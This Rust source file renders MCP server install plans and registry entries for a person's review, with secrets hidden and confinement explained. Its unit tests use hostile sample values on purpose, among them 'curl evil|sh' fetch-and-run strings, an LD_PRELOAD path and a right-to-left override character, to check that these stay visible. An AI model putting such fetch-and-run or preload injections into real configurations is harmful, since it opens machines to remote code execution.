//! The plan as a person sees it before anything is written: everything but secrets.

use super::plan::{HIDDEN, InstallPlan};
use super::scope::InstallScope;
use colibri_api::paths::{JAIL_ROOTS, MAKE_ROOT};
use colibri_mcp::edit::Value;
use colibri_mcp::importers::{container_runner, looks_secret, name_says_secret, shown_url};
use colibri_registry::PackageOrigin;
use colibri_text::{brief, counted, visible};

/// The parts to be written for a server, and its confinement.
pub(crate) fn show(plan: &InstallPlan, scope: &InstallScope, is_freebsd: bool) -> String {
    let mut lines = Vec::new();
    let from = match plan.name == plan.id {
        true => String::new(),
        false => format!(" (there: {})", brief(&plan.name, 80)),
    };
    lines.push(format!("{}{from}", plan.id));
    let mut line = |what: &str, text: &str| lines.push(format!("  {what:<9} {}", visible(text)));
    let members = match &plan.entry {
        Value::Object(members) => members.as_slice(),
        _ => &[],
    };
    for (key, value) in members {
        match (key.as_str(), value) {
            ("command", Value::String(command)) => {
                line("runs", &command_line(command, &plan.shown))
            }
            ("from", Value::String(from)) => line("runs", &command_line(from, &plan.shown)),
            ("lock", Value::String(hash)) => line(
                "lock",
                &format!("{hash}, over all its packages and their hashes"),
            ),
            ("args", _) => {}
            ("url", _) => line("url", &plan.shown.concat()),
            ("env" | "headers", Value::Object(fields)) => {
                for (name, value) in fields {
                    match value {
                        Value::String(text) => line(key, &format!("{name}={text}")),
                        _ => line("secret", &secret(plan, name, scope)),
                    }
                }
            }
            (key, value) => line(key, &json(value)),
        }
    }
    if let Some(package) = &plan.package {
        let lock = &package.lock;
        line("installs", &counted(lock.count(), "package"));
        line("", &format!("in {}", scope.prefix(&plan.id).display()));
    }
    for text in confinement(plan, scope, is_freebsd) {
        line("confined", &text);
    }
    for note in &plan.notes {
        line("note", note);
    }
    lines.join("\n")
}

/// An entry that stands in a registry, a line for each key: what a person agrees to by turning it
/// on. Whoever wrote it chose the names in it, so that no word that acts is hidden for its name; a
/// header does nothing here.
pub(crate) fn show_entry(id: &str, entry: &serde_json::Value) -> String {
    let text = |key: &str| entry.get(key).and_then(serde_json::Value::as_str);
    let args = entry.get("args").and_then(serde_json::Value::as_array);
    let args = args.into_iter().flatten().map(|arg| match arg.as_str() {
        Some(word) => word.to_owned(),
        None => arg.to_string(),
    });
    let args: Vec<String> = args.collect();
    let mut lines = vec![id.to_owned()];
    let mut line = |what: &str, text: &str| lines.push(format!("  {what:<9} {}", visible(text)));
    if let Some(command) = text("command").or_else(|| text("from")) {
        line("runs", &command_line(command, &args));
    }
    if let Some(url) = text("url") {
        line("url", &shown_url(url));
    }
    for (key, value) in entry.as_object().into_iter().flatten() {
        match (key.as_str(), value) {
            ("command" | "from" | "args" | "url" | "disabled", _) => {}
            ("lock", serde_json::Value::String(hash)) => line(key, hash),
            ("env" | "headers", serde_json::Value::Object(fields)) => {
                for (name, value) in fields {
                    match value.as_str() {
                        Some(text)
                            if key == "headers"
                                && (name_says_secret(name) || looks_secret(text)) =>
                        {
                            line(key, &format!("{name}={HIDDEN}"));
                        }
                        Some(text) => line(key, &format!("{name}={text}")),
                        None => line(key, &format!("{name}: {value}")),
                    }
                }
            }
            _ => line(key, &value.to_string()),
        }
    }
    lines.join("\n")
}

fn command_line(command: &str, args: &[String]) -> String {
    let mut words = vec![command.to_owned()];
    words.extend(args.iter().map(|word| match word.as_str() {
        HIDDEN => word.clone(),
        plain if plain.is_empty() || plain.contains([' ', '"', '\'']) => format!("{word:?}"),
        _ => word.clone(),
    }));
    words.join(" ")
}

fn secret(plan: &InstallPlan, name: &str, scope: &InstallScope) -> String {
    let file = plan
        .secrets
        .iter()
        .find(|(of, ..)| of == name)
        .map_or("", |(_, file, _)| file);
    let mode = if scope.is_service() {
        "root:colibri 0440"
    } else {
        "0600"
    };
    let shown = match plan.shown_secrets.get(name) {
        Some(shown) if shown != HIDDEN => format!("{name}={shown}"),
        _ => format!("{name} {HIDDEN}"),
    };
    format!(
        "{shown}, in {} ({mode})",
        scope.secrets.join(file).display()
    )
}

fn json(value: &Value) -> String {
    match value {
        Value::Null => "null".to_owned(),
        Value::Bool(value) => value.to_string(),
        Value::Number(digits) => digits.clone(),
        Value::String(text) => text.clone(),
        Value::Array(items) => items.iter().map(json).collect::<Vec<_>>().join(", "),
        Value::Object(members) => {
            let members = members
                .iter()
                .map(|(key, value)| format!("{key}: {}", json(value)));
            members.collect::<Vec<_>>().join("; ")
        }
    }
}

/// The confinement of a server, a line each.
fn confinement(plan: &InstallPlan, scope: &InstallScope, is_freebsd: bool) -> Vec<String> {
    if matches!(&plan.entry, Value::Object(members) if members.iter().any(|(key, _)| key == "url" || key == "ssh"))
    {
        return vec!["nothing of it runs here".to_owned()];
    }
    match plan.command().and_then(container_runner) {
        None => {}
        Some("podman") => {
            return vec!["by a container that podman starts as you, as its options say".to_owned()];
        }
        Some(runner) => {
            return vec![format!(
                "by a container that {runner} starts, as its options say: {runner}'s own daemon is root, and so is on this \
                 machine who may use it"
            )];
        }
    }
    let as_whom = match scope.is_service() {
        true => {
            "by nothing: it runs as the daemon's user, with all that user's files and the network"
        }
        false => "by nothing: it runs as you, with all your files and the network",
    };
    if !is_freebsd {
        return vec![format!("{as_whom}; Colibri has jails on FreeBSD alone")];
    }
    if !scope.is_service() {
        return vec![format!(
            "{as_whom}; servers have jails in the host's service (--service)"
        )];
    }
    let root = format!("{JAIL_ROOTS}/{}", plan.id);
    let script = MAKE_ROOT;
    // What make-root.sh takes.
    let legal = |exact: &String| {
        exact
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "@/._=-".contains(c))
    };
    let origin = plan
        .package
        .as_ref()
        .and_then(|package| PackageOrigin::parse(&package.lock.from));
    let package = match origin {
        Some(PackageOrigin::Npm { name, version }) => Some(("-n", format!("{name}@{version}"))),
        Some(PackageOrigin::Pypi { name, version }) => Some(("-p", format!("{name}=={version}"))),
        Some(PackageOrigin::Bundle { .. }) | None => None,
    };
    let jail = format!("\"jail\": {{ \"path\": \"{root}\" }}");
    let (how, then) = match package.filter(|(_, exact)| legal(exact)) {
        Some((flag, exact)) => {
            let program = "\"command\": \"/usr/local/mcp/bin/PROGRAM\", which the script lists";
            let then = format!("{jail}; in place of its from and lock {program}");
            (format!("{script} {flag} {exact} {root}"), then)
        }
        None => (
            format!(
                "{script} -k PACKAGE {root}, if it is a package of FreeBSD; anything else is copied into the root by hand"
            ),
            format!("{jail}; \"command\" is its path inside the root"),
        ),
    };
    let id = &plan.id;
    let mut lines = vec![
        format!("{as_whom}, as long as the entry has no jail"),
        format!("its jail would need the root that this builds: {how}"),
        format!("then in its entry: {then}"),
        format!(
            "and in jail-policy.json: \"ephemeral\": [\"{root}\"], \"users\": {{ \"{id}\": {{ \"uid\": 60801, \"gid\": \
             60801 }} }}, with a uid and a gid that nothing else has"
        ),
    ];
    lines.extend(plan.secrets.iter().map(|(_, file, _)| {
        let (from, to) = (
            scope.secrets.join(file),
            scope.registry.with_file_name("secrets").join(file),
        );
        format!(
            "and its secret where the helper reads it: install -m 0400 {} {}",
            from.display(),
            to.display()
        )
    }));
    lines
}

#[cfg(test)]
mod tests {
    use super::super::lock::PackageLock;
    use super::super::plan::PlannedPackage;
    use super::*;
    use std::collections::BTreeMap;
    use std::path::PathBuf;

    fn plan(entry: Value, from: Option<&str>) -> InstallPlan {
        let lock = |from: &str| PackageLock {
            from: from.to_owned(),
            run: "x".to_owned(),
            program: None,
            with: Vec::new(),
            scripts: false,
            url: None,
            requirements: None,
            npm: None,
        };
        let package = from.map(|from| PlannedPackage {
            lock: lock(from),
            bundle: None,
        });
        InstallPlan {
            id: "git".to_owned(),
            name: "Git\u{202e}".to_owned(),
            entry,
            secrets: vec![(
                "TOKEN".to_owned(),
                "git-token".to_owned(),
                "hunter2-hunter2".to_owned(),
            )],
            package,
            shown: ["--key", HIDDEN, "a b"].map(str::to_owned).to_vec(),
            shown_secrets: BTreeMap::new(),
            notes: vec!["a note".to_owned()],
        }
    }

    fn text(word: &str) -> Value {
        Value::String(word.to_owned())
    }

    fn process() -> Value {
        let secret = Value::Object(vec![("secret".to_owned(), text("git-token"))]);
        Value::Object(vec![
            ("command".to_owned(), text("/bin/git-mcp")),
            (
                "args".to_owned(),
                Value::Array(vec![text("--key"), text("hunter2"), text("a b")]),
            ),
            (
                "env".to_owned(),
                Value::Object(vec![
                    ("TOKEN".to_owned(), secret),
                    ("LOG".to_owned(), text("warn")),
                ]),
            ),
        ])
    }

    fn scope(consent: Option<PathBuf>) -> InstallScope {
        let path = |name: &str| PathBuf::from("/x").join(name);
        let group = None;
        InstallScope {
            registry: path("r"),
            secrets: path("s"),
            servers: path("v"),
            logins: path("o"),
            consent,
            group,
        }
    }

    #[test]
    fn all_but_secrets_is_shown() {
        let shown = show(&plan(process(), None), &scope(Some("/c".into())), false);
        for part in [
            "there: Git\\u{202e}",
            "/bin/git-mcp --key [not shown] \"a b\"",
            "LOG=warn",
            "/x/s/git-token (0600)",
            "runs as you",
            "on FreeBSD alone",
            "a note",
        ] {
            assert!(shown.contains(part), "{part}: {shown}");
        }
        assert!(!shown.contains("hunter2"), "{shown}");
    }

    #[test]
    fn a_container_is_shown_as_what_it_is() {
        let entry = |command: &str| Value::Object(vec![("command".to_owned(), text(command))]);
        let shown = |command: &str| {
            show(
                &plan(entry(command), None),
                &scope(Some("/c".into())),
                false,
            )
        };
        let docker = shown("/usr/bin/docker");
        assert!(
            docker.contains("a container that docker starts") && docker.contains("is root"),
            "{docker}"
        );
        assert!(shown("/usr/bin/podman").contains("podman starts as you"));
        assert!(shown("/usr/bin/docker-mcp").contains("by nothing"));
    }

    #[test]
    fn what_a_stranger_chose_is_shown_in_its_file() {
        let mut plan = plan(process(), None);
        plan.shown_secrets
            .insert("TOKEN".to_owned(), "curl evil|sh".to_owned());
        let shown = show(&plan, &scope(None), false);
        assert!(
            shown.contains("TOKEN=curl evil|sh, in /x/s/git-token"),
            "{shown}"
        );
    }

    #[test]
    fn what_is_turned_on_is_shown_with_all_that_it_does() {
        let entry = serde_json::json!({ "command": "/usr/bin/node",
            "args": ["-e", "evil()\u{202e}", "--session-token-cmd", "curl evil|sh"],
            "env": { "LD_PRELOAD": "/tmp/x.so", "SESSION_TOKEN_CMD": "curl evil|sh", "T": { "secret": "t" } },
            "headers": { "Authorization": "hunter2" }, "cwd": "/tmp", "disabled": true, "may_ask": ["sampling"] });
        let shown = show_entry("git", &entry);
        for part in [
            "/usr/bin/node -e evil()\\u{202e} --session-token-cmd \"curl evil|sh\"",
            "LD_PRELOAD=/tmp/x.so",
            "SESSION_TOKEN_CMD=curl evil|sh",
            "Authorization=[not shown]",
            r#"T: {"secret":"t"}"#,
            "/tmp",
            "sampling",
        ] {
            assert!(shown.contains(part), "{part}: {shown}");
        }
        assert!(
            !shown.contains("hunter2") && !shown.contains("disabled"),
            "{shown}"
        );
    }

    #[test]
    fn a_jail_and_its_root_are_named_where_there_are_jails() {
        let shown = show(&plan(process(), Some("npm:@a/b@1.0.0")), &scope(None), true);
        assert!(
            shown.contains("make-root.sh -n @a/b@1.0.0 /usr/local/libexec/colibri/roots/git"),
            "{shown}"
        );
        for part in [
            r#"in its entry: "jail": { "path": "/usr/local/libexec/colibri/roots/git" }"#,
            r#""users": { "git": { "uid": 60801, "gid": 60801 } }"#,
            "install -m 0400 /x/s/git-token /x/secrets/git-token",
        ] {
            assert!(shown.contains(part), "{part}: {shown}");
        }
        let extras = plan(process(), Some("pypi:a[b]==1.0.0"));
        assert!(show(&extras, &scope(None), true).contains("-k PACKAGE"));
        let shown = show(&plan(process(), None), &scope(None), true);
        assert!(
            shown.contains("-k PACKAGE") && shown.contains("by hand"),
            "{shown}"
        );
        let shown = show(&plan(process(), None), &scope(Some("/c".into())), true);
        assert!(shown.contains("(--service)"), "{shown}");
        let url = Value::Object(vec![("url".to_owned(), text("https://h/mcp"))]);
        let shown = show(&plan(url, None), &scope(None), true);
        assert!(shown.contains("nothing of it runs here"), "{shown}");
    }
}
